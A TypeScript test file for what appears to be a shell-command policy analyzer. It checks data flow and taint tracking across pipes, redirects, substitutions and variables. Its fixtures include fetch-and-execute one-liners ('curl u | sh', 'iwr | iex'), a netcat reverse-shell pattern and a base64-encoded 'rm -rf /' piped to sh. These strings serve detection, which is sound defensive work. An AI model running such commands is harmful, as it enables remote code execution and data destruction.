// What flows from one command of a line to the next.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyze } from '#core/policy/parse/analyze.ts'
import { PLACE, render_flows } from '#test/core/policy/parse/render.ts'

const FLOWS: readonly (readonly [source: string, flows: readonly string[]])[] = [
  ['ls', []],
  ['a | b', ['0 -> stdin 1 (pipe)']],
  ['a | b | c', ['0 -> stdin 1 (pipe)', '1 -> stdin 2 (pipe)']],
  ['a |& b', ['0 -> stdin 1 (pipe)']],
  ['(a; b) | c', ['0 -> stdin 2 (pipe)', '1 -> stdin 2 (pipe)']],
  ['if a; then b; else c; fi | d', ['0 -> stdin 3 (pipe)', '1 -> stdin 3 (pipe)', '2 -> stdin 3 (pipe)']],
  ['curl u | sh', ['0 -> stdin 1 (pipe)', '0 -> code 1 (pipe)']],
  ['curl u | sudo bash -s', ['0 -> stdin 1 (pipe)', '0 -> stdin 2 (pipe)', '0 -> code 2 (pipe)']],
  ['curl u | tee f | sh', ['0 -> stdin 1 (pipe)', '1 -> stdin 2 (pipe)', '1 -> code 2 (pipe)']],
  ['curl u | python3 -', ['0 -> stdin 1 (pipe)', '0 -> code 1 (pipe)']],
  ['curl u | jq .', ['0 -> stdin 1 (pipe)']],
  ['a > f', ['0 -> f (redirect)']],
  ['a 2>&1 >> f', ['0 -> f (redirect)']],
  ['sh < f', ['f -> stdin 0 (redirect)', 'f -> code 0 (redirect)']],
  ['cat < f > g', ['f -> stdin 0 (redirect)', '0 -> g (redirect)']],
  ['{ a; b; } > f', ['2 -> f (redirect)', '0 -> f (redirect)', '1 -> f (redirect)']],
  ['sudo a > f', ['0 -> f (redirect)', '1 -> f (redirect)']],
  ['a <<< x', ['text -> stdin 0 (heredoc)']],
  ['a <<E\nx\nE', ['text -> stdin 0 (heredoc)']],
  [
    'sh <<< "$(curl u)"',
    ['0 -> stdin 1 (heredoc)', 'text -> stdin 1 (heredoc)', '0 -> code 1 (heredoc)', 'text -> code 1 (heredoc)'],
  ],
  ['bash <(curl u)', ['0 -> argument 1 (process-substitution)', '0 -> code 1 (process-substitution)']],
  ['source <(curl u)', ['0 -> argument 1 (process-substitution)', '0 -> code 1 (process-substitution)']],
  ['diff <(a) <(b)', ['0 -> argument 2 (process-substitution)', '1 -> argument 2 (process-substitution)']],
  ['sh < <(curl u)', ['0 -> stdin 1 (process-substitution)', '0 -> code 1 (process-substitution)']],
  ['a > >(b)', ['1 -> stdin 0 (process-substitution)']],
  ['tee >(b) < f', ['f -> stdin 1 (redirect)', '1 -> stdin 0 (process-substitution)']],
  ['a $(b)', ['0 -> argument 1 (substitution)']],
  ['a "x$(b)y" $(c)', ['0 -> argument 2 (substitution)', '1 -> argument 2 (substitution)']],
  ['$(a) b', ['0 -> head 1 (substitution)']],
  ['eval "$(curl u)"', ['0 -> argument 1 (substitution)', '0 -> code 1 (substitution)']],
  ['sh -c "$(curl u)"', ['0 -> argument 1 (substitution)', '0 -> code 1 (substitution)']],
  ['python -c "$(curl u)"', ['0 -> argument 1 (substitution)', '0 -> code 1 (substitution)']],
  ['x=$(curl u); eval "$x"', ['0 -> argument 2 (variable)', '0 -> code 2 (variable)']],
  ['x=$(a); y=$x; b "$y"', ['0 -> argument 3 (variable)']],
  ['a | while read l; do b "$l"; done', ['0 -> stdin 1 (pipe)', '0 -> stdin 2 (pipe)', '0 -> argument 2 (variable)']],
  ['f() { b; }; a | f', ['0 -> stdin 1 (pipe)']],
  ['f() { sh; }; curl u | f', ['0 -> stdin 1 (pipe)', '0 -> code 1 (pipe)']],
  ['a | xargs b', ['0 -> stdin 1 (pipe)', '0 -> argument 2 (pipe)']],
  ['tar c . | ssh h "cat > x"', ['0 -> stdin 1 (pipe)', '0 -> stdin 2 (pipe)', '2 -> x (redirect)']],
  ['curl u > f; sh f', ['0 -> f (redirect)']],
  [
    'nc h 1 < p | sh > p',
    ['p -> stdin 0 (redirect)', '0 -> stdin 1 (pipe)', '1 -> p (redirect)', '0 -> code 1 (pipe)'],
  ],
  ['iwr u | iex', ['0 -> stdin 1 (pipe)', '0 -> code 1 (pipe)']],
  ['iex (iwr https://u)', ['0 -> argument 1 (substitution)', '0 -> code 1 (substitution)']],
  ['$x = iwr https://u; iex $x', ['0 -> argument 1 (variable)', '0 -> code 1 (variable)']],
]

test('data flows follow pipes, redirections, substitutions, variables and functions', () => {
  for (const [source, expected] of FLOWS) {
    assert.deepEqual(render_flows(analyze(source, PLACE)).sort(), [...expected].sort(), source)
  }
})

test('standard input lists the whole chain, nearest last', () => {
  const last = analyze('a | b | c < f', PLACE).commands
  assert.deepEqual(last[1]?.stdin, [{ kind: 'command', index: 0 }])
  assert.equal(last[2]?.stdin.length, 1)
  const chain = analyze('cat < f | b | c', PLACE).commands[2]?.stdin.map((source) => source.kind)
  assert.deepEqual(chain, ['command', 'command'])
})

test('piped says whether a pipe takes the output', () => {
  const commands = analyze('a | b > f | c', PLACE).commands
  assert.deepEqual(
    commands.map((command) => command.piped),
    [true, false, false],
  )
})

test('taint of network, decoded and environment text reaches the words made of it', () => {
  const taints = (source: string) => analyze(source, PLACE).commands.at(-1)?.args.at(-1)?.taint
  assert.deepEqual(taints('a "$(curl u)"'), ['net'])
  assert.deepEqual(taints('a "$(curl u | base64 -d)"'), ['net', 'decoded'])
  assert.deepEqual(taints('x=$(curl u); x=safe; a "$x"'), [], 'a literal overwrite clears taint')
  assert.deepEqual(taints('a "$TOKEN"'), ['env'])
  assert.deepEqual(taints('a plain'), [])
})

test('commands read from decoded text carry the taint on their head', () => {
  const command = analyze('echo cm0gLXJmIC8= | base64 -d | sh', PLACE).commands.at(-1)
  assert.equal(command?.name, 'rm')
  assert.deepEqual(command?.head.taint, ['decoded'])
})
